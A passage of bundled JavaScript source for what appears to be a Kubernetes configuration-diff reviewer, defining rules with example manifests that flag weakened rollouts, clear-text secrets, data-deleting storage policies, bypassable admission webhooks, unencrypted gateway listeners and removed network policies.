      { before: deployment3("minReadySeconds: 30"), after: deployment3("minReadySeconds: 5"), outcome: "flip" },
      {
        before: deployment3("progressDeadlineSeconds: 600"),
        after: deployment3("progressDeadlineSeconds: 60"),
        outcome: "flip"
      },
      { before: deployment3("minReadySeconds: 30"), after: deployment3(), outcome: "drop" },
      { before: deployment3("minReadySeconds: 5"), after: deployment3("minReadySeconds: 30"), outcome: "none" }
    ]
  }),
  control({
    id: "config/grace-period-shortened",
    class: "availability",
    title: "less time to shut down",
    why: "Pods that need longer than this are killed: requests in flight are cut off.",
    fix: "Keep it longer than the slowest request takes.",
    dialect: WORKLOADS2,
    governs: atEnd("terminationGracePeriodSeconds"),
    // A second or less is no time at all, which has a rule of its own.
    rank: (node) => (whole2(node) ?? 0) > 1 ? whole2(node) : void 0,
    outcomes: { halved: moved2("medium") },
    refine: ({ transition, from: from3, to }) => transition === "flip" && Number(to) * 2 < Number(from3) ? "halved" : void 0,
    examples: [
      { before: grace(60), after: grace(10), outcome: "halved" },
      { before: grace(60), after: grace(45), outcome: "none" },
      { before: grace(60), after: grace(0), outcome: "none" },
      { before: grace(10), after: grace(60), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/rollouts.ts
var deployment4 = object("apps/v1", "Deployment");
var statefulSet2 = object("apps/v1", "StatefulSet");
var rolling2 = (maxUnavailable, replicas = 4) => deployment4(`replicas: ${replicas}
strategy:
  rollingUpdate: { maxUnavailable: ${maxUnavailable} }`);
var replicasOf = (root) => Number(textAt(root, "spec", "replicas") ?? textAt(root, "replicaCount") ?? Number.NaN);
function shareDown(node, { document, before: before3 }) {
  if (node.kind !== "scalar") return void 0;
  const named4 = replicasOf((node === before3 ? document.before : document.after)?.root);
  const replicas = named4 > 0 ? named4 : Number.NaN;
  const share = Number.isNaN(replicas) && node.text.endsWith("%") ? 100 : replicas;
  const count3 = countOf(node.text, share, "down");
  return count3 === void 0 || Number.isNaN(share) ? void 0 : 100 * count3 / share;
}
var below5 = (share) => (node, setting) => {
  const down = shareDown(node, setting);
  return down === void 0 ? void 0 : Number(down < share);
};
function keepsSome(node, setting) {
  return replicasOf(setting.document.after?.root) === 1 ? 1 : below5(100)(node, setting);
}
var inStrategy = ({ keys }) => keys.at(-1) === "maxUnavailable" && keys.at(-2) === "rollingUpdate" && keys.at(-3) !== "updateStrategy";
var RECREATED = weakWhenSet({
  risk: "high",
  praise: "rollout now keeps pods running",
  weak: "strategy: { type: Recreate }",
  safe: "strategy: { type: RollingUpdate }",
  file: deployment4
});
var rollouts_default = [
  control({
    id: "config/rollout-takes-all-down",
    class: "availability",
    title: "rollout may stop every pod at once",
    why: "Each rollout may stop all old pods before one new pod is ready: the service is down, and a bad image leaves nothing to fall back on.",
    fix: "Set `maxUnavailable` to `25%` or less, and let `maxSurge` bring the speed.",
    dialect: WORKLOADS2,
    governs: inStrategy,
    rank: keepsSome,
    ...weakWhenSet({
      risk: "high",
      praise: "rollout keeps pods running",
      weak: "replicas: 4\nstrategy: { rollingUpdate: { maxUnavailable: 100% } }",
      safe: "replicas: 4\nstrategy: { rollingUpdate: { maxUnavailable: 25% } }",
      file: deployment4
    })
  }),
  control({
    id: "config/rollout-takes-half-down",
    class: "availability",
    title: "rollout may stop half of the pods or more",
    why: "While a rollout runs, the pods that are left carry twice their load or more.",
    fix: "Set `maxUnavailable` to `25%` or less, and let `maxSurge` bring the speed.",
    dialect: WORKLOADS2,
    governs: inStrategy,
    rank: (node, setting) => keepsSome(node, setting) === 0 ? void 0 : below5(50)(node, setting),
    absent: 1,
    outcomes: { flip: moved2("medium"), open: moved2("medium"), born: moved2("low") },
    examples: [
      { before: rolling2("25%"), after: rolling2("50%"), outcome: "flip" },
      { before: rolling2("1"), after: rolling2("3"), outcome: "flip" },
      { before: deployment4("replicas: 4"), after: rolling2("2"), outcome: "open" },
      { before: "", after: rolling2("75%"), outcome: "born" },
      { before: deployment4("replicas: 1"), after: rolling2("1", 1), outcome: "open" },
      { before: rolling2("25%"), after: rolling2("1"), outcome: "none" },
      { before: rolling2("25%", 3), after: rolling2("50%", 3), outcome: "none" },
      { before: rolling2("25%", 1), after: rolling2("50%", 1), outcome: "none" },
      { before: rolling2("25%"), after: rolling2("4"), outcome: "none" }
    ]
  }),
  control({
    id: "config/daemon-rollout",
    class: "availability",
    title: "update may stop half of the pods or more at once",
    why: "Each update may stop the pods of half the nodes, or of all, before one new pod is ready.",
    fix: "Lower `maxUnavailable`, so that a bad image stops at the first nodes.",
    dialect: WORKLOADS2,
    governs: atEnd("updateStrategy", "rollingUpdate", "maxUnavailable"),
    // How many nodes there are, nobody can know: only a share says how many pods stop.
    rank: (node) => node.kind === "scalar" ? Number(!node.text.endsWith("%") || (countOf(node.text, 100, "down") ?? 0) < 50) : void 0,
    ...weakWhenSet({
      risk: "medium",
      praise: "update goes on node by node",
      weak: "updateStrategy: { rollingUpdate: { maxUnavailable: 100% } }",
      safe: "updateStrategy: { rollingUpdate: { maxUnavailable: 10% } }",
      file: object("apps/v1", "DaemonSet")
    })
  }),
  control({
    id: "config/recreate-strategy",
    class: "availability",
    title: "rollout stops all pods first",
    why: "Each rollout stops every old pod before it starts a new one: the service is down in between.",
    fix: "Use `RollingUpdate`, unless two versions cannot run side by side.",
    equivalents: ["kube-linter:no-rolling-update-strategy"],
    dialect: WORKLOADS2,
    governs: atEnd("strategy", "type"),
    rank: unless("Recreate"),
    ...RECREATED,
    // A new workload has no rollout behind it that anybody counts on.
    outcomes: { ...RECREATED.outcomes, born: moved2("low") }
  }),
  control({
    id: "config/update-on-delete",
    class: "availability",
    title: "updates no longer roll out",
    why: "Pods keep the old version, security fixes included, until somebody deletes them one by one.",
    fix: "Use `RollingUpdate`, unless an operator deletes the pods in order.",
    dialect: WORKLOADS2,
    governs: atEnd("updateStrategy", "type"),
    rank: unless("OnDelete"),
    ...weakWhenSet({
      risk: "medium",
      praise: "updates now roll out by themselves",
      weak: "updateStrategy: { type: OnDelete }",
      safe: "updateStrategy: { type: RollingUpdate }",
      file: statefulSet2
    })
  })
];

// src/domains/config/rules/kubernetes/secret-objects.ts
var secret3 = (lines) => lines === "" ? "" : `apiVersion: v1
kind: Secret
metadata: { name: shop }
${lines}
`;
var sealed = "apiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nmetadata: { name: shop }\nspec: { encryptedData: { config: AgBy8h } }\n";
var encryption2 = (key3) => `apiVersion: apiserver.config.k8s.io/v1
kind: EncryptionConfiguration
resources:
  - resources: [secrets]
    providers:
      - secretbox: { keys: [{ name: a, secret: "${key3}" }] }
`;
var values2 = ({ first, others }) => others === 0 ? `\`${first}\`` : `\`${first}\` and ${others} more`;
var secret_objects_default = configRule({
  id: "config/secret-committed",
  on: "secret-committed",
  class: "secret",
  title: "secret of the cluster in clear text",
  why: "Everybody who can read the repository, now or later in its history, has it; base64 hides nothing.",
  fix: "Replace it with one that is sealed or fetched from a store, and issue a new value.",
  outcomes: {
    value: { risk: "high", message: (c) => `The Secret \`${c.name}\` holds ${values2(c)} in clear text.` },
    unsealed: {
      risk: "critical",
      title: "sealed secret now in clear text",
      message: (c) => `The Secret \`${c.name}\` was sealed and now holds ${values2(c)} in clear text.`
    },
    key: {
      risk: "critical",
      title: "key to stored secrets in clear text",
      message: () => "The key that encrypts stored secrets stands in clear text.",
      why: "Whoever can read the repository and a backup of etcd reads every secret of the cluster.",
      fix: "Keep the key in a key management service (`kms`), issue a new one and rewrite all secrets."
    }
  },
  examples: [
    { before: "", after: secret3("stringData: { config: blue-door-42 }"), outcome: "value" },
    {
      before: secret3("data: { config: Ymx1ZS1kb29yLTQy }"),
      after: secret3("data: { config: Ymx1ZS1kb29yLTQz }"),
      outcome: "value"
    },
    { before: sealed, after: secret3("stringData: { config: blue-door-42 }"), outcome: "unsealed" },
    { before: "", after: encryption2("pX1zQ0vR8mT3bN6yW2kJ5hL9sD4fG7aE1cU0iO8qZ2M="), outcome: "key" },
    { before: "", after: encryption2("<a key of your own>"), outcome: "none" },
    { before: "", after: secret3('stringData: { config: "{{ .Values.config }}" }'), outcome: "none" },
    { before: "", after: secret3('stringData: { password: changeme, ca: "" }'), outcome: "none" },
    {
      before: secret3("stringData: { config: blue-door-42 }"),
      after: secret3('type: Opaque\nstringData: { config: "blue-door-42" }'),
      outcome: "none"
    },
    { before: "", after: secret3("stringData: { password: vK8x2mQ9zL4w }"), outcome: "none" }
  ],
  classify: ({ what }) => what
});

// src/domains/config/rules/kubernetes/storage.ts
var volume3 = object("v1", "PersistentVolume");
var claim4 = (size2) => object("v1", "PersistentVolumeClaim")(`resources: { requests: { storage: ${size2} } }`);
var kept = annotated("v1", "PersistentVolumeClaim");
var KEEPS2 = /^keep$|\b(?:Prune|Delete)=false\b|protection$|finalizer/;
var storage_default = [
  control({
    id: "config/reclaim-deletes",
    class: "data-loss",
    title: "data deleted with its claim",
    why: "When the claim or the set goes, the disk and all data on it go too, without a question.",
    fix: "Keep `Retain` for data that nothing else holds.",
    dialect: WORKLOADS2,
    governs: ({ keys }) => ["persistentVolumeReclaimPolicy", "reclaimPolicy", "whenDeleted", "whenScaled"].includes(keys.at(-1) ?? ""),
    rank: unless("Delete"),
    outcomes: {
      flip: moved2("high"),
      drop: moved2("medium"),
      hardened: hardened("data kept when its claim goes")
    },
    examples: [
      {
        before: volume3("persistentVolumeReclaimPolicy: Retain"),
        after: volume3("persistentVolumeReclaimPolicy: Delete"),
        outcome: "flip"
      },
      { before: volume3("persistentVolumeReclaimPolicy: Retain"), after: volume3(), outcome: "drop" },
      {
        before: volume3("persistentVolumeReclaimPolicy: Delete"),
        after: volume3("persistentVolumeReclaimPolicy: Retain"),
        outcome: "hardened"
      },
      { before: "", after: volume3("persistentVolumeReclaimPolicy: Delete"), outcome: "none" }
    ]
  }),
  control({
    id: "config/volume-ephemeral",
    class: "data-loss",
    title: "data no longer outlives the pod",
    why: "What the pod writes is lost whenever it is moved, updated or evicted.",
    fix: "Keep the persistent volume claim.",
    dialect: WORKLOADS2,
    governs: atEnd("volumes", "emptyDir"),
    // A template may hold both, one of them in the branch that is rendered.
    rank: (_, { ownerBefore, ownerAfter }) => at(ownerBefore, "persistentVolumeClaim") === void 0 || at(ownerAfter, "persistentVolumeClaim") !== void 0 ? void 0 : 0,
    absent: 1,
    outcomes: { open: { risk: "high", message: () => "A volume goes from `persistentVolumeClaim` to `emptyDir`." } },
    examples: [
      {
        before: pod("volumes: [{ name: data, persistentVolumeClaim: { claimName: data } }]"),
        after: pod("volumes: [{ name: data, emptyDir: {} }]"),
        outcome: "open"
      },
      { before: pod(), after: pod("volumes: [{ name: data, emptyDir: {} }]"), outcome: "none" },
      {
        before: pod("volumes: [{ name: data, persistentVolumeClaim: { claimName: data } }]"),
        after: pod("volumes: [{ name: data, persistentVolumeClaim: { claimName: data }, emptyDir: {} }]"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/claim-templates-removed",
    class: "data-loss",
    title: "volume claims of a set removed",
    why: "New pods start without their disks; and the API refuses the change on a set that exists.",
    fix: "Move the data first, and replace the set.",
    dialect: WORKLOADS2,
    governs: ofKind("StatefulSet", "spec", "volumeClaimTemplates"),
    rank: () => 1,
    absent: 0,
    outcomes: { drop: removed("high", "template for volume claims") },
    examples: [
      {
        before: object("apps/v1", "StatefulSet")("volumeClaimTemplates: [{ metadata: { name: data } }]"),
        after: object("apps/v1", "StatefulSet")(),
        outcome: "drop"
      },
      {
        before: object("apps/v1", "StatefulSet")(),
        after: object("apps/v1", "StatefulSet")("volumeClaimTemplates: [{ metadata: { name: data } }]"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/claim-shrunk",
    class: "compatibility",
    title: "volume claim made smaller",
    why: "The API refuses to shrink a claim that exists: the update fails.",
    fix: "Create a smaller claim, copy the data, and switch over.",
    dialect: WORKLOADS2,
    governs: atEnd("resources", "requests", "storage"),
    rank: (node) => node.kind === "scalar" ? quantity(node.text) : void 0,
    outcomes: { flip: moved2("high") },
    examples: [
      { before: claim4("10Gi"), after: claim4("5Gi"), outcome: "flip" },
      { before: claim4("10Gi"), after: claim4("20Gi"), outcome: "none" },
      { before: claim4("1Gi"), after: claim4("1024Mi"), outcome: "none" }
    ]
  }),
  control({
    id: "config/keep-removed",
    class: "data-loss",
    title: "object no longer kept on uninstall",
    why: "Uninstalling or pruning now deletes the object, and with it the data it stands for.",
    fix: "Keep the annotation on whatever holds data.",
    dialect: WORKLOADS2,
    governs: either(
      annotation("helm.sh/resource-policy", "argocd.argoproj.io/sync-options"),
      atEnd("metadata", "finalizers")
    ),
    rank: (node) => Number(KEEPS2.test(textsOf(node).join())),
    absent: 0,
    outcomes: { drop: moved2("high"), hardened: hardened("object now kept on uninstall") },
    examples: [
      { before: kept("helm.sh/resource-policy: keep"), after: kept(), outcome: "drop" },
      { before: kept("argocd.argoproj.io/sync-options: Prune=false"), after: kept(), outcome: "drop" },
      {
        before: kept().replace("name: web", "name: web\n  finalizers: [kubernetes.io/pvc-protection]"),
        after: kept(),
        outcome: "drop"
      },
      { before: kept(), after: kept("helm.sh/resource-policy: keep"), outcome: "hardened" },
      {
        before: kept("helm.sh/resource-policy: keep"),
        after: kept('helm.sh/resource-policy: "keep"'),
        outcome: "none"
      },
      { before: kept("helm.sh/resource-policy: keep"), after: "", outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/webhooks.ts
var webhook = (lines = "", kind = "Validating") => `apiVersion: admissionregistration.k8s.io/v1
kind: ${kind}WebhookConfiguration
metadata: { name: policy }
webhooks:
  - name: policy.example.com
    sideEffects: None
${lines === "" ? "" : `    ${lines}`}
`;
var asked2 = (...operations) => webhook(
  `rules: [${operations.map((each) => `{ apiGroups: [apps], resources: [deployments], operations: ${each} }`).join(", ")}]`
);
var SELECTIONS = ["namespaceSelector", "objectSelector", "matchConditions"];
var isSelection = ({ keys, path: path27, ownerBefore, ownerAfter }) => keys.at(-2) === "webhooks" && SELECTIONS.includes(keys.at(-1) ?? "") && path27.at(-1)?.kind === "key" || keys.at(-4) === "webhooks" && keys.at(-2) === "matchLabels" && ownerBefore !== void 0 && ownerAfter !== void 0;
var WIDE = 0;
var selects2 = (node) => node.kind === "scalar" ? -1 : present(node) === void 0 ? void 0 : -(node.kind === "list" ? node.items.length : conditionsOf(node));
var conditionsOf = (selector2) => entriesOf(at(selector2, "matchLabels")).length + itemsAt(selector2, "matchExpressions").length;
function coversRequests(node, { before: before3 }) {
  if (node.kind === "map") return node === before3 ? 1 : void 0;
  const [known2, names2] = [textsOf(before3), new Set(textsOf(node))];
  if ([...names2, ...known2].some((name) => name.includes("{{"))) return node === before3 ? 1 : void 0;
  if (!names2.has("*") && !known2.every((name) => namings(name).some((each) => names2.has(each)))) return 0;
  return names2.size > known2.length || names2.has("*") && !known2.includes("*") ? 2 : 1;
}
var namings = (name) => [name, `${name}s`, `${name}es`, name.replace(/y$/, "ies")];
var webhooks_default = [
  control({
    id: "config/webhook-failure-policy",
    class: "permission-widening",
    title: "webhook may be passed by",
    why: "When the webhook is down, or is brought down, objects pass unchecked.",
    fix: "Keep `failurePolicy: Fail` for a webhook that protects; narrow what it selects where it must not block.",
    dialect: MANIFESTS,
    governs: atEnd("webhooks", "failurePolicy"),
    rank: unless("Ignore"),
    absent: 1,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: { ...moved2("low"), title: "new webhook may be passed by" },
      template: moved2("medium"),
      hardened: {
        ...moved2("medium"),
        class: "availability",
        title: "webhook now stops what it cannot check",
        why: "While the webhook is down, every object it selects is refused: rollouts and node repair can stand still.",
        fix: "Run it with several replicas, and leave its own namespace and `kube-system` out of what it selects."
      }
    },
    examples: [
      { before: webhook("failurePolicy: Fail"), after: webhook("failurePolicy: Ignore"), outcome: "flip" },
      { before: webhook(), after: webhook("failurePolicy: Ignore", "Validating"), outcome: "open" },
      { before: "", after: webhook("failurePolicy: Ignore"), outcome: "born" },
      {
        before: webhook("failurePolicy: Fail"),
        after: webhook("failurePolicy: {{ .Values.policy }}"),
        outcome: "template"
      },
      { before: webhook("failurePolicy: Ignore"), after: webhook("failurePolicy: Fail"), outcome: "hardened" },
      { before: webhook(), after: webhook("failurePolicy: Fail"), outcome: "none" }
    ]
  }),
  control({
    id: "config/webhook-excludes-more",
    class: "permission-widening",
    title: "webhook sees fewer objects",
    why: "Objects that its selector leaves out pass unchecked, and whoever may set their labels can choose so.",
    fix: "Select by a label that only administrators may set.",
    dialect: MANIFESTS,
    governs: (setting) => isSelection(setting) && setting.owner === "kept",
    rank: selects2,
    absent: WIDE,
    outcomes: {
      open: { risk: "medium", message: (c) => `\`${c.name}\` is new and leaves objects out.` },
      hardened: {
        ...hardened("webhook sees more objects"),
        message: (c) => `\`${c.name}\` leaves fewer objects out.`
      }
    },
    examples: [
      { before: webhook(), after: webhook('objectSelector: { matchLabels: { check: "yes" } }'), outcome: "open" },
      {
        before: webhook('objectSelector: { matchLabels: { check: "yes" } }'),
        after: webhook('objectSelector: { matchLabels: { check: "yes", team: a } }'),
        outcome: "open"
      },
      { before: webhook('objectSelector: { matchLabels: { check: "yes" } }'), after: webhook(), outcome: "hardened" },
      { before: "", after: webhook('objectSelector: { matchLabels: { check: "yes" } }'), outcome: "none" },
      { before: webhook(), after: webhook("objectSelector: {}"), outcome: "none" }
    ]
  }),
  control({
    id: "config/webhook-rules-narrowed",
    class: "permission-widening",
    title: "webhook asked about fewer requests",
    why: "Requests that its rules no longer name pass unchecked.",
    fix: "Keep the rule for as long as such objects may be created.",
    dialect: MANIFESTS,
    governs: either(
      ({ keys, path: path27, ownerAfter }) => path27.at(-1)?.kind === "item" && endsWith(keys, ["webhooks", "rules"]) && ownerAfter !== void 0,
      ...["apiGroups", "operations", "resources"].map((name) => atEnd("webhooks", "rules", name))
    ),
    rank: coversRequests,
    outcomes: {
      flip: moved2("medium"),
      drop: { risk: "medium", message: () => "A rule of the webhook was removed." },
      hardened: hardened("webhook asked about more requests")
    },
    examples: [
      { before: asked2("[CREATE, UPDATE]"), after: asked2("[CREATE]"), outcome: "flip" },
      { before: asked2("['*']"), after: asked2("[CREATE]"), outcome: "flip" },
      { before: asked2("[CREATE]", "[UPDATE]"), after: asked2("[CREATE]"), outcome: "drop" },
      { before: asked2("[CREATE]"), after: asked2("[CREATE, UPDATE]"), outcome: "hardened" },
      { before: asked2("[CREATE, UPDATE]"), after: asked2("[UPDATE, CREATE]"), outcome: "none" },
      { before: asked2("[CREATE]").replace("deployments", "deployment"), after: asked2("[CREATE]"), outcome: "none" },
      { before: asked2("[CREATE]"), after: asked2("['{{ .operation }}']"), outcome: "none" }
    ]
  }),
  control({
    id: "config/webhook-exact-match",
    class: "permission-widening",
    title: "webhook asked about one version only",
    why: "The same object sent in another version of its API passes unchecked.",
    fix: "Keep `matchPolicy: Equivalent`.",
    dialect: MANIFESTS,
    governs: atEnd("webhooks", "matchPolicy"),
    rank: unless("Exact"),
    ...weakWhenSet({
      risk: "medium",
      praise: "webhook asked about every version",
      weak: "matchPolicy: Exact",
      safe: "matchPolicy: Equivalent",
      file: webhook
    })
  }),
  control({
    id: "config/webhook-timeout-raised",
    class: "availability",
    title: "webhook may hold requests longer",
    why: "While the webhook is slow, every request it is asked about waits that long.",
    fix: "Keep the timeout at a few seconds.",
    dialect: MANIFESTS,
    governs: atEnd("webhooks", "timeoutSeconds"),
    rank: (node) => node.kind === "scalar" && /^\d{1,3}$/.test(node.text) ? 100 - Number(node.text) : void 0,
    outcomes: { flip: moved2("low"), hardened: hardened("webhook holds requests less long") },
    examples: [
      { before: webhook("timeoutSeconds: 5"), after: webhook("timeoutSeconds: 30"), outcome: "flip" },
      { before: webhook("timeoutSeconds: 30"), after: webhook("timeoutSeconds: 5"), outcome: "hardened" },
      { before: webhook(), after: webhook("timeoutSeconds: 10"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/network/gateways.ts
var gateway2 = object("gateway.networking.k8s.io/v1", "Gateway");
var routes = (from3) => gateway2(`listeners: [{ name: web, port: 80, allowedRoutes: { namespaces: { from: ${from3} } } }]`);
var sealed2 = (tls2) => gateway2(`listeners: [{ name: web, protocol: TLS, tls: { ${tls2} } }]`);
var option = (version) => sealed2(`options: { example.com/min-tls-version: '${version}' }`);
var VERSIONS2 = [/1[._]?0$|v1$|SSL/i, /1[._]?1$/, /1[._]?2(?:_\d+)?$/, /1[._]?3(?:_\d+)?$/];
var gateways_default2 = [
  control({
    id: "config/gateway-listener-plain",
    class: "encryption-disabled",
    title: "gateway listener no longer encrypts",
    why: "Requests to this listener cross the network in clear text.",
    fix: "Keep `HTTPS` or `TLS`; redirect from a listener of its own.",
    dialect: MANIFESTS,
    governs: ofKind("Gateway", "spec", "listeners", "protocol"),
    rank: (node) => node.kind === "scalar" ? Number(/^(?:HTTPS|TLS)$/.test(node.text)) : void 0,
    outcomes: { flip: moved2("high"), hardened: hardened("gateway listener now encrypts") },
    examples: [
      {
        before: gateway2("listeners: [{ name: web, protocol: HTTPS, port: 443 }]"),
        after: gateway2("listeners: [{ name: web, protocol: HTTP, port: 443 }]"),
        outcome: "flip"
      },
      {
        before: gateway2("listeners: [{ name: web, protocol: HTTP, port: 80 }]"),
        after: gateway2("listeners: [{ name: web, protocol: TLS, port: 80 }]"),
        outcome: "hardened"
      },
      {
        before: gateway2("listeners: [{ name: web, protocol: HTTPS, port: 443 }]"),
        after: gateway2("listeners: [{ name: web, protocol: TLS, port: 443 }]"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/gateway-routes-opened",
    class: "exposure",
    title: "gateway takes routes from every namespace",
    why: "Any team can now attach a route, and take over a host or path of another.",
    fix: "Keep `Same`, or select namespaces by label.",
    dialect: MANIFESTS,
    governs: atEnd("allowedRoutes", "namespaces", "from"),
    rank: unless("All"),
    absent: 1,
    outcomes: { flip: moved2("medium"), open: moved2("medium"), hardened: hardened("gateway takes fewer routes") },
    examples: [
      { before: routes("Same"), after: routes("All"), outcome: "flip" },
      { before: gateway2("listeners: [{ name: web, port: 80 }]"), after: routes("All"), outcome: "open" },
      { before: routes("All"), after: routes("Selector"), outcome: "hardened" },
      { before: routes("Same"), after: routes("Selector"), outcome: "none" }
    ]
  }),
  control({
    id: "config/gateway-tls-ends",
    class: "encryption-disabled",
    title: "gateway opens what it passed on sealed",
    why: "From the gateway on, requests are in clear text unless something encrypts them anew.",
    fix: "Keep `Passthrough`, or encrypt from the gateway to the pods.",
    dialect: MANIFESTS,
    governs: ofKind("Gateway", "spec", "listeners", "tls", "mode"),
    rank: unless("Terminate"),
    outcomes: { flip: moved2("medium"), hardened: hardened("gateway passes on sealed requests") },
    examples: [
      { before: sealed2("mode: Passthrough"), after: sealed2("mode: Terminate"), outcome: "flip" },
      { before: sealed2("mode: Terminate"), after: sealed2("mode: Passthrough"), outcome: "hardened" },
      { before: sealed2("mode: Passthrough"), after: sealed2('mode: "Passthrough"'), outcome: "none" }
    ]
  }),
  control({
    id: "config/gateway-old-tls",
    class: "encryption-disabled",
    title: "gateway takes older TLS",
    why: "Versions before 1.2 can be broken by who listens.",
    fix: "Keep 1.2 or later.",
    dialect: MANIFESTS,
    governs: ({ keys }) => keys.at(-2) === "options" && keys.at(-3) === "tls" && /min[\w-]*version/i.test(keys.at(-1) ?? ""),
    rank: (node) => node.kind === "scalar" ? VERSIONS2.findIndex((version) => version.test(node.text)) : void 0,
    outcomes: { flip: moved2("high"), hardened: hardened("gateway takes newer TLS only") },
    refine: ({ transition, to = "" }) => {
      if (transition === "hardened") return "hardened";
      return transition === "flip" && VERSIONS2.slice(0, 2).some((old) => old.test(to)) ? "flip" : void 0;
    },
    examples: [
      { before: option("1.2"), after: option("1.0"), outcome: "flip" },
      { before: option("1.2"), after: option("1.3"), outcome: "hardened" },
      { before: option("1.3"), after: option("1.2"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/network/guards.ts
var guard = (apiVersion, kind) => `apiVersion: ${apiVersion}
kind: ${kind}
metadata: { name: db }
spec: { paused: false }
`;
var NETWORK = guard("networking.k8s.io/v1", "NetworkPolicy");
var MESH = guard("security.istio.io/v1", "AuthorizationPolicy");
var ADMISSION2 = guard("kyverno.io/v1", "ClusterPolicy");
var CONSTRAINT = guard("constraints.gatekeeper.sh/v1beta1", "K8sRequiredLabels");
var WEBHOOK = guard("admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration");
var BUDGET = guard("policy/v1", "PodDisruptionBudget");
var POD2 = "apiVersion: v1\nkind: Pod\nmetadata: { name: db }\nspec: { containers: [{ name: db }] }\n";
var guards_default2 = [
  configRule({
    id: "config/guard-removed",
    on: "guard-removed",
    class: "exposure",
    title: "protection removed",
    why: "What it protected stays, and is now open.",
    fix: "Keep the object for as long as the pods it selects are there.",
    equivalents: ["checkov:CKV2_K8S_6"],
    outcomes: {
      network: { risk: "high", message: (c) => `The ${c.objectKind} \`${c.name}\` was removed.` },
      mesh: {
        risk: "high",
        class: "permission-widening",
        message: (c) => `The ${c.objectKind} \`${c.name}\` was removed.`,
        why: "The mesh no longer asks who calls: the default of the namespace or the mesh holds."
      },
      admission: {
        risk: "high",
        class: "permission-widening",
        message: (c) => `The ${c.objectKind} \`${c.name}\` was removed.`,
        why: "Objects that it refused are let into the cluster from now on.",
        fix: "Keep the policy, and except by name what must pass."
      },
      webhook: {
        risk: "medium",
        class: "permission-widening",
        message: (c) => `The ${c.objectKind} \`${c.name}\` was removed.`,
        why: "Objects that it refused are let into the cluster from now on.",
        fix: "Keep it for as long as what it checks is served."
      },
      disruption: {
        risk: "medium",
        class: "availability",
        message: (c) => `The ${c.objectKind} \`${c.name}\` was removed.`,
        why: "A node drain may now stop all pods at once.",
        fix: "Keep a disruption budget that leaves at least one pod running."
      }
    },
    examples: [
      { before: NETWORK, after: "", outcome: "network" },
      { before: MESH, after: "", outcome: "mesh" },
      { before: ADMISSION2, after: "", outcome: "admission" },
      { before: CONSTRAINT, after: "", outcome: "admission" },
      { before: WEBHOOK, after: "", outcome: "webhook" },
      { before: BUDGET, after: "", outcome: "disruption" },
      { before: { "old.yaml": NETWORK }, after: { "new.yaml": NETWORK }, outcome: "none" },
      { before: `${POD2}---
${NETWORK}`, after: "", outcome: "none" }
    ],
    classify: ({ guards: guards2 }) => guards2
  }),
  configRule({
    id: "config/guard-added",
    on: "guard-added",
    class: "hardening",
    title: "protection added",
    why: "What stood open is now protected.",
    fix: "Check that nothing still relies on what it refuses.",
    outcomes: { added: { risk: "info", message: (c) => `The ${c.objectKind} \`${c.name}\` is new.` } },
    examples: [
      { before: "", after: NETWORK, outcome: "added" },
      { before: "", after: `${POD2}---
${NETWORK}`, outcome: "none" },
      { before: NETWORK, after: "", outcome: "none" }
    ],
    classify: () => "added"
  })
];

// src/domains/config/rules/network/ingress-hosts.ts
var ingress3 = object("networking.k8s.io/v1", "Ingress");
var PATHS = "http: { paths: [{ path: /, pathType: Prefix, backend: { service: { name: web, port: { number: 80 } } } }] }";
var rules = (...hosts2) => ingress3(`rules: [${hosts2.map((host) => `{ ${host === "" ? "" : `host: ${host}, `}${PATHS} }`).join(", ")}]`);
var paths = (...names2) => ingress3(
  `rules: [{ host: a.example.com, http: { paths: [${names2.map((name) => `{ path: ${name}, pathType: Prefix }`).join(", ")}] } }]`
);
var isAny = (host) => host === void 0 || host === "" || host === "*";
var hostsOf = (root) => itemsAt(root, "spec", "rules").map((rule) => textAt(rule, "host"));
function isServed3(node, { before: before3, document }) {
  const host = node.kind === "scalar" ? node.text : textAt(node, "host");
  if (node !== before3) return isAny(host) ? void 0 : 0;
  const served2 = hostsOf(document.after?.root);
  return isAny(host) || served2.includes(host) || served2.some((other) => isAny(other) || other?.includes("{{")) ? void 0 : 1;
}
var ingress_hosts_default = [
  control({
    id: "config/ingress-host-removed",
    class: "compatibility",
    title: "ingress no longer serves a host",
    why: "Whoever asks for the host gets an error, or the pages of another service.",
    fix: "Serve the old host for as long as it is in use, or redirect it.",
    dialect: "kubernetes",
    governs: either(itemOfKind("Ingress", "spec", "rules"), ofKind("Ingress", "spec", "rules", "host")),
    rank: isServed3,
    outcomes: { flip: moved2("medium"), drop: { risk: "medium", message: () => "The rule of a host was removed." } },
    refine: ({ transition }) => transition === "flip" || transition === "drop" ? transition : void 0,
    examples: [
      { before: rules("a.example.com"), after: rules("b.example.com"), outcome: "flip" },
      { before: rules("a.example.com", "b.example.com"), after: rules("a.example.com"), outcome: "drop" },
      {
        before: rules("a.example.com", "b.example.com"),
        after: rules("b.example.com", "a.example.com"),
        outcome: "none"
      },
      { before: rules("a.example.com"), after: rules("a.example.com", "b.example.com"), outcome: "none" },
      { before: rules("a.example.com"), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/ingress-any-host",
    class: "exposure",
    title: "ingress answers for any host",
    why: "Requests for names nobody thought of, and for the bare address, now reach the service.",
    fix: "Name the hosts.",
    dialect: "kubernetes",
    governs: ofKind("Ingress", "spec", "rules", "host"),
    rank: (node) => node.kind === "scalar" ? Number(!isAny(node.text)) : void 0,
    absent: 0,
    outcomes: {
      flip: moved2("medium"),
      drop: moved2("medium"),
      hardened: hardened("ingress answers for named hosts only")
    },
    examples: [
      { before: rules("a.example.com"), after: rules('"*"'), outcome: "flip" },
      { before: rules("a.example.com"), after: rules(""), outcome: "drop" },
      { before: rules(""), after: rules("a.example.com"), outcome: "hardened" },
      { before: rules("a.example.com"), after: rules("a.example.com # the shop"), outcome: "none" }
    ]
  }),
  control({
    id: "config/ingress-path-removed",
    class: "compatibility",
    title: "ingress no longer serves a path",
    why: "Whoever asks for the path gets an error, or the pages of another service.",
    fix: "Serve the old path for as long as it is in use, or redirect it.",
    dialect: "kubernetes",
